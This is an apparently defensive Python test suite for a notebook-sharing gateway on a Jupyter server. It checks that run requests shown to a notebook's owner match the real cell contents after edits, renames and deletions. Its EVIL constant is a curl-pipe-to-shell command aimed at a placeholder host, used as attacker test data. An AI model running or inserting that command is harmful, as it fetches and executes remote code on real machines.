"""What an editor asks the owner to run is what the cell says, on a real server."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest
from yarl import URL

from tests.attacks.notebooks import Notebook, plant_notebook
from tests.attacks.pages import Visitor, editor, until
from tests.gatehouse import Gatehouse
from tests.real.jupyter import JupyterServer

pytestmark = [pytest.mark.real, pytest.mark.asyncio(loop_scope="module")]

HARMLESS, EVIL = "print('hello')", "import os; os.system('curl evil | sh')"
bo, eve = editor("Bo"), editor("Eve")


@pytest.fixture(scope="module")
def gate(watched_gate: Gatehouse) -> Gatehouse:
    return watched_gate


class Live:
    """The visit's live channel. `heard`: what it was told of its asks."""

    def __init__(self, socket: aiohttp.ClientWebSocketResponse) -> None:
        self._socket = socket
        self.heard: list[tuple[str, str, str]] = []

    async def read(self) -> None:
        async for message in self._socket:
            word = json.loads(message.data)
            if word["type"] == "asked":
                self.heard.append((word["path"], word["cell"], word["state"]))

    async def ask(self, path: str, source: str, cell: str = "two") -> None:
        await self._socket.send_json({"type": "ask", "path": path, "cell": cell, "source": source})


@contextlib.asynccontextmanager
async def live(visitor: Visitor) -> AsyncIterator[Live]:
    inside = visitor.inside
    headers = {"Origin": inside.gate.origin, "Cookie": f"sharegate-visit={inside.cookie}"}
    async with (
        aiohttp.ClientSession() as session,
        session.ws_connect(URL(inside.gate.origin + inside.base + "-/live"), headers=headers) as socket,
    ):
        channel = Live(socket)
        reading = asyncio.create_task(channel.read())
        try:
            yield channel
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)


async def asks(gate: Gatehouse, path: str) -> list[str]:
    """The texts that the owner is shown."""
    return [one["source"] for one in (await gate.call("GET", "asks"))["asks"] if one["path"] == path]


async def notebook(visitor: Visitor, path: str) -> Notebook:
    opened = Notebook(await visitor.open(path, "json", "notebook"))
    await until(lambda: opened.sources)
    return opened


async def put(visitor: Visitor, path: str, source: str) -> None:
    cell = {"id": "two", "cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}
    content: dict[str, Any] = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    body = {"type": "notebook", "format": "json", "content": content}
    reply = await visitor.inside.ask("PUT", f"api/contents/{path}", body=json.dumps(body).encode())
    assert reply.status in (200, 201), reply.body


async def test_attack_an_ask_for_a_file_that_was_never_opened(
    gate: Gatehouse, eve: Visitor, bo: Visitor, workshop: JupyterServer
) -> None:
    """A notebook that was put there, one that does not exist, and one that only somebody else has open."""
    await put(eve, "sub/shared/unopened.ipynb", EVIL)
    await notebook(bo, plant_notebook(workshop, "his.ipynb"))
    names = ("unopened", "missing", "his")
    async with live(eve) as channel:
        for name in names:
            await channel.ask(f"sub/shared/{name}.ipynb", HARMLESS)
        await until(lambda: len(channel.heard) == 3)
        assert {state for _, _, state in channel.heard} == {"closed"}
    for name in names:
        assert await asks(gate, f"sub/shared/{name}.ipynb") == []


async def test_an_ask_stands_as_long_as_its_cell_does(gate: Gatehouse, eve: Visitor, workshop: JupyterServer) -> None:
    """What is typed and asked for in one breath is shown; the answer is refused once the cell is another."""
    path = plant_notebook(workshop, "honest.ipynb")
    hers = await notebook(eve, path)
    async with live(eve) as channel:
        await channel.ask(path, "x = 1 # now")
        hers.type("two", " # now")
        await until(lambda: (path, "two", "waiting") in channel.heard)
        while not (shown := [one for one in (await gate.call("GET", "asks"))["asks"] if one["path"] == path]):
            await asyncio.sleep(0.01)
        assert shown[0]["source"] == "x = 1 # now"
        await gate.call("POST", f"asks/{shown[0]['id']}/ran", {"digest": shown[0]["digest"]})
        await until(lambda: channel.heard[-1][2] == "ran")

        await channel.ask(path, "x = 1 # now")
        while not await asks(gate, path):
            await asyncio.sleep(0.01)
        hers.type("two", EVIL)
        await until(lambda: channel.heard[-1][2] == "changed")
        assert await asks(gate, path) == []


async def test_attack_a_notebook_that_is_renamed_and_changed(
    gate: Gatehouse, eve: Visitor, workshop: JupyterServer
) -> None:
    """The ask is over when its notebook lies elsewhere; under the old name nothing can be asked for any more."""
    path = plant_notebook(workshop, "renamed.ipynb")
    hers = await notebook(eve, path)
    async with live(eve) as channel:
        await channel.ask(path, "x = 1")
        while not (shown := [one for one in (await gate.call("GET", "asks"))["asks"] if one["path"] == path]):
            await asyncio.sleep(0.01)
        reply = await eve.inside.ask("PATCH", f"api/contents/{path}", body=b'{"path": "sub/shared/renamed2.ipynb"}')
        assert reply.status == 200, reply.body
        answer = {"digest": shown[0]["digest"]}
        status, _ = await gate.running.api.call("POST", f"/api/v1/asks/{shown[0]['id']}/ran", {}, answer)
        assert status != 200, "at once, before anybody has looked where it lies"
        hers.type("two", EVIL)
        await until(lambda: channel.heard[-1][2] in ("moved", "changed"))
        await channel.ask(path, HARMLESS)
        # Until somebody has looked where it lies the room claims the old name; its cell is looked at all the same.
        await until(lambda: len(channel.heard) > 2 and channel.heard[-1][2] in ("closed", "moved", "changed"))
        assert await asks(gate, path) == []


async def test_attack_a_new_file_where_an_old_room_lingers(
    gate: Gatehouse, eve: Visitor, workshop: JupyterServer
) -> None:
    """Opened, left, deleted, put there anew and opened: the text of the dead room is nobody's cell."""
    path = plant_notebook(workshop, "lingers.ipynb")
    old = await notebook(eve, path)
    assert "x = 1" in old.sources
    await old.page.leave()

    async def deleted() -> int:
        return (await eve.inside.ask("DELETE", f"api/contents/{path}")).status

    while await deleted() != 204:  # not while it is open
        await asyncio.sleep(0.05)
    await put(eve, path, EVIL)
    new = await notebook(eve, path)
    assert new.sources == [EVIL]
    async with live(eve) as channel:
        await channel.ask(path, "x = 1")
        await until(lambda: channel.heard and channel.heard[-1][2] == "changed")
        assert await asks(gate, path) == []
        await channel.ask(path, EVIL)
        while not await asks(gate, path):
            await asyncio.sleep(0.01)
        await new.page.leave()
        while await asks(gate, path):
            await asyncio.sleep(0.01)
